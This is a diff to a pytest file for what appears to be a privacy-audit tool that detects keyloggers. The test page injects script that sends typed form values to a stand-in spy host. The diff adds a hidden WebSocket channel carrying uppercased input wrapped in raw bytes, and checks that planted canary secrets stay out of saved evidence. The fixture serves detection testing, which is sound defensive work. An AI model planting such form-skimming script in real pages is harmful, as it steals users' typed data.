@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import pytest
+from aiohttp import web as aiohttp_web
 
+from policywitness.bundle.reader import Evidence
 from policywitness.cli import execute as run
 from policywitness.demo.server import Web, html, js
 from policywitness.model.audit import Audit
@@ -29,7 +31,11 @@ document.querySelector('[name=email]').addEventListener('blur', async event => {
   send('sha1', 'em=' + (await hex('SHA-1', event.target.value)).toUpperCase());
 }});
 document.querySelector('[name=message]').addEventListener('blur', event => send('plain', JSON.stringify({{v: event.target.value}})));
-document.querySelector('[name=your-name]').addEventListener('blur', event => send('b64', 'd=' + btoa(event.target.value)));
+const socket = new WebSocket('wss://{SPY}/socket');
+document.querySelector('[name=your-name]').addEventListener('blur', event => {{
+  send('b64', 'd=' + btoa(event.target.value));
+  socket.send(new Uint8Array([0x81, 0xa1, 0xff, ...new TextEncoder().encode(event.target.value.toUpperCase()), 0xc0]));
+}});
 """
 
 
@@ -42,8 +48,16 @@ def audit(web: Web, out, *options: str) -> Audit:
 
 @pytest.fixture
 def web():
+    async def socket(request: aiohttp_web.Request) -> aiohttp_web.WebSocketResponse:
+        response = aiohttp_web.WebSocketResponse()
+        await response.prepare(request)
+        async for _ in response:
+            pass
+        return response
+
     answer = html("ok")
-    with Web({SITE: {"/": html(PAGE), "/send": answer}, SPY: {"/spy.js": js(SPY_JS), "/*": answer}}) as served:
+    spy = {"/spy.js": js(SPY_JS), "/socket": socket, "/*": answer}
+    with Web({SITE: {"/": html(PAGE), "/send": answer}, SPY: spy}) as served:
         yield served
 
 
@@ -53,8 +67,13 @@ def test_typed_text_is_followed_in_every_encoding_and_never_submitted(web, tmp_p
     assert {"keylog.plaintext", "keylog.urlencoded", "keylog.base64", "keylog.sha1", "keylog.sha256"} <= labels
     assert not web.requests(SITE, "/send"), "a form was submitted"
     assert document.provenance.authorised_by == "The owner, ticket 1"
+    sockets = [row for row in Evidence.read(tmp_path / "b").requests if row.url == f"wss://{SPY}/socket"]
+    assert any("|case⟩" in (row.post_data or "") for row in sockets), (
+        "in capital letters, among bytes, in a WebSocket's message"
+    )
     everything = b"".join(path.read_bytes() for path in (tmp_path / "b").rglob("*") if path.is_file())
-    assert b"canary.example" not in everything
+    for planted in (b"canary.example", b"Quillon", b"QUILLON", b"canary sang", b"Canary-", b"-Pass!7"):
+        assert planted not in everything
 
 
 def test_harmless_controls_are_clicked_and_others_left_alone(web, tmp_path):
